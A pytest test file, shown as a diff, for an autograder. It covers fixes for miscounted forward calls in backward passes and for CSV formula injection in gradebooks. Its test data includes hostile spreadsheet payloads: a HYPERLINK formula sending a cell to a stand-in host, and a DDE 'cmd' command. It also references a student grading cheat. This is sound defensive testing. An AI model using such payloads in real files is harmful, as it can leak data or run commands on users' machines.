@@ -1,0 +1,225 @@
+"""redteam26's findings on the grader and ``gradcheck check``.
+
+H1, H2: the staff policy ``gradcheck_no_forward_in_backward`` counted backward's own call as a call of forward when
+forward and backward share code: a decorator without ``functools.wraps`` (one wrapper code for both), a class-based
+decorator (its ``__get__``'s lambda and its ``__call__``), a self-adjoint layer whose backward has forward's bytecode
+(``dout * self.c`` beside ``x * self.c``). Correct code scored 11/28, 15/47, 0/4 with "Linear.backward called
+Linear.forward 1 time(s)". Now the one call of each code the grader's call of backward enters is backward's own;
+every further call of forward's code is counted, so the central-differences cheat still fails with each shape.
+"""
+
+import json
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from gradcheck import check_layer
+from gradcheck.grading.runner import grade_submission
+from gradcheck.sandbox import SandboxError
+from tests.test_grading_policy import CHEAT, INIT, SOLUTION, _sandbox
+
+ROOT = Path(__file__).resolve().parents[1]
+
+#: decorators a student puts on both forward and backward, none of them functools.wraps
+DECORATORS = {
+    "function": ("def deco(f):\n    def wrapper(self, *args, **kwargs):\n"
+                 "        return f(self, *args, **kwargs)\n    return wrapper\n"),
+    "class": ("class deco:\n    def __init__(self, f):\n        self.f = f\n\n"
+              "    def __get__(self, obj, typ=None):\n        return lambda *a, **k: self(obj, *a, **k)\n\n"
+              "    def __call__(self, obj, *args, **kwargs):\n        return self.f(obj, *args, **kwargs)\n"),
+    "twice": ("def deco(f):\n    def wrapper(self, *args, **kwargs):\n"
+              "        return f(self, *args, **kwargs)\n    return wrapper\n"),
+}
+
+
+def _decorated(source, how):
+    """``source`` with ``@deco`` (``DECORATORS[how]``) on Linear's forward and backward (twice each for "twice")."""
+    at = "    @deco\n" * (2 if how == "twice" else 1)
+    return (DECORATORS[how] + "\n\n" + source.replace("    def forward(self, X", at + "    def forward(self, X", 1)
+            .replace("    def backward(self, dY", at + "    def backward(self, dY", 1))
+
+
+@pytest.mark.parametrize("how", sorted(DECORATORS))
+def test_a_decorator_without_wraps_on_both_counts_no_call_of_an_honest_backward(tmp_path, how):
+    """H1: the solution with a decorator on both methods: 0 calls (was 1, 2 for the class-based one), and check's
+    verdict PASS under the policy."""
+    X = np.random.default_rng(1).standard_normal((4, 5))
+    with _sandbox(tmp_path, _decorated(SOLUTION, how)) as sb:
+        layer = sb.load_layer("layers.py", "Linear", INIT, no_forward_in_backward=True)
+        assert check_layer(layer, X, twin=None).passed and layer.forward_calls_in_backward == 0
+
+
+@pytest.mark.parametrize("how", sorted(DECORATORS))
+def test_the_central_differences_cheat_under_a_decorator_is_counted_call_for_call(tmp_path, how):
+    """The cheat of test_grading_policy under the same decorators: its 76 forward calls, each counted once (a call
+    through the class-based decorator's lambda and ``__call__`` is one call, not two)."""
+    X, dY = np.random.default_rng(0).standard_normal((4, 5)), np.ones((4, 3))
+    with _sandbox(tmp_path, _decorated(CHEAT, how)) as sb:
+        layer = sb.load_layer("layers.py", "Linear", INIT, no_forward_in_backward=True)
+        layer.forward(X)
+        with pytest.raises(SandboxError, match="Linear.backward called Linear.forward") as info:
+            layer.backward(dY)
+        assert info.value.reason == "policy" and layer.forward_calls_in_backward == 76
+
+
+SCALE = '''import numpy as np
+
+
+class Scale:
+    def __init__(self, c=3.0):
+        self.c, self.params, self.grads = c, {}, {}
+
+    def forward(self, x):
+        return x * self.c
+
+BACKWARD
+'''
+#: self-adjoint backwards, each with the count the policy gives: backward's own entry is not a call of forward
+SELF_ADJOINT = {
+    "same_bytecode": ("    def backward(self, dout):\n        return dout * self.c\n", 0),
+    # a functools.wraps decorator on backward alone: the wrapped function has forward's key
+    "wraps_on_backward": ("    @deco\n    def backward(self, dout):\n        return dout * self.c\n", 0),
+    # a decorator without wraps on backward alone
+    "plain_deco_on_backward": ("    @plain\n    def backward(self, dout):\n        return dout * self.c\n", 0),
+    # backward IS forward's code (one function for both), which calls itself once more: counted
+    "one_function_calling_itself": ("    def apply(self, a, inner=False):\n"
+                                    "        return a * self.c if inner else self.apply(a, inner=True)\n\n"
+                                    "    forward = backward = apply\n", 1),
+    # the self-adjoint backward that also calls forward: counted
+    "and_calls_forward": ("    def backward(self, dout):\n        self.forward(dout)\n        return dout * self.c\n",
+                          1),
+}
+DECOS = ("import functools\n\n\ndef deco(f):\n    @functools.wraps(f)\n    def w(*a, **k):\n        return f(*a, **k)\n"
+         "    return w\n\n\ndef plain(f):\n    def w(*a, **k):\n        return f(*a, **k)\n    return w\n")
+
+
+@pytest.mark.parametrize("how", sorted(SELF_ADJOINT))
+def test_a_self_adjoint_backward_is_not_a_call_of_forward(tmp_path, how):
+    """H2: ``forward(x): x * self.c`` and ``backward(dout): dout * self.c`` have one code key; backward's own call was
+    counted as a forward (0/4). Its entry is its own now; a backward that calls forward's code again is counted
+    (one function both forward and backward, which calls itself: its inner call is a call of forward)."""
+    body, calls = SELF_ADJOINT[how]
+    src = DECOS + SCALE.replace("BACKWARD", body)
+    if how == "one_function_calling_itself":
+        src = src.replace("    def forward(self, x):\n        return x * self.c\n", "")
+    x = np.random.default_rng(2).standard_normal((4, 5))
+    with _sandbox(tmp_path, src) as sb:
+        layer = sb.load_layer("layers.py", "Scale", {"c": 3.0}, no_forward_in_backward=True)
+        layer.forward(x)
+        if calls == 0:
+            np.testing.assert_array_equal(layer.backward(np.ones_like(x)), np.full_like(x, 3.0))
+            assert layer.forward_calls_in_backward == 0
+        else:
+            with pytest.raises(SandboxError, match="Scale.backward called Scale.forward 1 time"):
+                layer.backward(np.ones_like(x))
+            assert layer.forward_calls_in_backward == calls
+
+
+CS231N = '''import time
+
+import numpy as np
+
+TIMES = {}
+
+
+def timed(f):
+    def wrapper(*args, **kwargs):
+        t = time.perf_counter()
+        out = f(*args, **kwargs)
+        TIMES[f.__name__] = time.perf_counter() - t
+        return out
+    return wrapper
+
+
+@timed
+def affine_forward(x, w, b):
+    out = x.reshape(x.shape[0], -1) @ w + b
+    return out, (x, w, b)
+
+
+@timed
+def affine_backward(dout, cache):
+    x, w, b = cache
+    BODY
+'''
+HONEST_PAIR = "return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, dout.sum(axis=0)"
+CHEAT_PAIR = "affine_forward(x, w, b)\n    return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, " \
+    "dout.sum(axis=0)"
+
+
+@pytest.mark.parametrize("body, calls", [(HONEST_PAIR, 0), (CHEAT_PAIR, 1)])
+def test_a_cs231n_pair_under_one_timing_decorator(tmp_path, body, calls):
+    """H1 on cs231n_layers (15/47): the pair's backward is entered through the adapter, its wrapper is forward's; the
+    honest pair counts 0, one that calls affine_forward once counts 1."""
+    xs = [np.random.default_rng(3).standard_normal(s) for s in ((4, 2, 3), (6, 5), (5,))]
+    with _sandbox(tmp_path, CS231N.replace("BODY", body)) as sb:
+        layer = sb.load_layer("layers.py", "affine", {}, no_forward_in_backward=True)
+        out = layer.forward(*xs)
+        if not calls:
+            assert len(layer.backward(np.ones_like(out))) == 3 and layer.forward_calls_in_backward == 0
+            return
+        with pytest.raises(SandboxError, match="called wrapper.forward 1 time"):
+            layer.backward(np.ones_like(out))
+
+
+def test_the_policy_fails_only_the_tests_it_covers(tmp_path):
+    """The dtype test of linear_relu_ce calls backward for a property of dtypes; under the module's policy a backward
+    that called forward lost those 2 points too. The test switches the policy off for itself
+    (``gradcheck_no_forward_in_backward(False)``): the central-differences cheat loses the gradient tests' points
+    (6 + 4) and keeps the dtype test's; an honest decorated solution keeps all 28."""
+    for name, src in (("cheat", CHEAT), ("decorated", _decorated(SOLUTION, "class"))):
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "layers.py").write_text(src)
+        r = grade_submission(tmp_path / name, ROOT / "assignments" / "linear_relu_ce" / "tests", tmp_path / f"o{name}",
+                             timeout=10.0, seed=5)
+        tests = {t["name"]: t for t in json.loads(Path(r.results_path).read_text())["tests"]}
+        dtype = tests["All layers: outputs and gradients are float64"]
+        assert dtype["score"] == dtype["max_score"] == 2.0, dtype
+        if name == "decorated":
+            assert r.score == 28.0, [(t["name"], t["score"]) for t in tests.values()]
+            continue
+        lost = {n: t["max_score"] for n, t in tests.items() if t["score"] != t["max_score"]}
+        assert lost == {"Linear: gradients dX, dW, db (2 points each)": 6.0,
+                        "Hidden: Linear gradients for random sizes and batch sizes": 4.0}, lost
+        assert r.score == 18.0
+
+
+def test_a_policy_marker_argument_other_than_true_or_false_is_the_tests_mistake(tmp_path):
+    """``gradcheck_no_forward_in_backward("no")``: a GradingTestError naming the marker, no submission scored by it."""
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub" / "layers.py").write_text(SOLUTION)
+    (tmp_path / "tests").mkdir()
+    (tmp_path / "tests" / "test_p.py").write_text(
+        "import pytest\nfrom manualprop import Linear as RefLinear\n\n\n@pytest.mark.points(1)\n"
+        "@pytest.mark.gradcheck_no_forward_in_backward('no')\ndef test_g(student, grade, rng):\n"
+        "    grade.layer_gradients(student.layer('layers.py', 'Linear', in_features=5, out_features=3),\n"
+        "                          rng.standard_normal((4, 5)), RefLinear(5, 3), seed=1)\n")
+    r = grade_submission(tmp_path / "sub", tmp_path / "tests", tmp_path / "out", timeout=10.0)
+    text = Path(r.results_path).read_text()
+    assert "gradcheck_no_forward_in_backward takes True or False" in text, text[:2000]
+
+
+def test_every_gradebook_cell_is_guarded_against_csv_injection(tmp_path):
+    """L5: only a name's first character was guarded: `` =HYPERLINK(...)`` (a leading space) was written as it came,
+    and ``;=1+1`` unquoted (a semicolon-separated locale's Excel splits there and the next cell starts with ``=``).
+    Now the first character after leading whitespace is judged, a cell holding ``;`` (or ``,``, a tab, a quote) is
+    quoted, and the header's test names and the statuses are guarded as the names are. Read back by Python's csv
+    reader with ``,`` or with ``;`` as the separator (quotes honoured, as spreadsheets do), no cell starts a
+    formula."""
+    import csv
+
+    from gradcheck.grading.runner import SubmissionResult, write_gradebook
+
+    names = [' =HYPERLINK("http://x.example/?"&A1,"grade")', ";=1+1", "  +1", "a;b", "plain"]
+    rows = [SubmissionResult(n, 1.0, 2.0, "graded", 0.1, "p", tests={"-2+3 hidden": 1.0}) for n in names]
+    rows.append(SubmissionResult("zed", 0.0, 2.0, "=cmd|' /C calc'!A0", 0.1, "p", tests={"-2+3 hidden": 0.0}))
+    path = write_gradebook(tmp_path / "g.csv", rows, seed=1)
+    got = list(csv.reader(open(path, encoding="utf-8", newline="")))
+    assert got[0][-1] == "'-2+3 hidden" and [r[0] for r in got[1:]] == [
+        "'  +1", "' =HYPERLINK(\"http://x.example/?\"&A1,\"grade\")", ";=1+1", "a;b", "plain", "zed"]
+    assert got[-1][4] == "'=cmd|' /C calc'!A0" and got[1][1:4] == ["1", "2", "50.0"]
+    text = open(path, encoding="utf-8").read()
+    assert '";=1+1"' in text and '"a;b"' in text  # quoted: one cell for a reader splitting at ";"
+    for line in csv.reader(open(path, encoding="utf-8", newline=""), delimiter=";"):  # a semicolon locale's reading
+        assert not [c for c in line if c.lstrip()[:1] in ("=", "+", "-", "@")], line
